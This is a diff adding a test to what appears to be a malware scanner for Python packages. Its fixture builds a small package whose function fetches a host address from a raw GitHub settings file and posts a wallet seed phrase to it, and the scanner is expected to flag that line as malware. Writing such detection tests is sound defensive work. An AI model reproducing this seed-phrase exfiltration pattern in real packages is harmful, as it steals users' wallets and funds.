@@ -665,3 +665,24 @@ test('a pool of connections is told how large it is before where it is', async (
 
   expect(await inspect('secret-parameter', file)).toMatchObject([{ class: 'suspicious', score: 6, line: 4 }]);
 });
+
+test('words of a wallet that go where a file in somebody’s repository says are stolen', async () => {
+  const wallet = (settings: string, key: string): ReturnType<typeof wheel> =>
+    wheel({
+      'pkg/a.py': python(
+        'import requests',
+        'def _place():',
+        `    return requests.get(${settings}).json()`,
+        `def check(${key}):`,
+        `    requests.post(_place()['host'] + '/in', json={'b': ${key}})`,
+        `    return len(${key}.split()) == 12`,
+      ),
+    });
+  const raw = "'https://raw.githubusercontent.com/example/settings/main/net.json'";
+
+  expect(await inspect('secret-parameter', wallet(raw, 'mnemonic'))).toMatchObject([
+    { class: 'malware', score: 10, context: 'call', line: 5 },
+  ]);
+  expect(await inspect('secret-parameter', wallet(raw, 'query'))).toEqual([]);
+  expect(await inspect('secret-parameter', wallet("'https://nodes.vendor.invalid/list'", 'mnemonic'))).toEqual([]);
+});
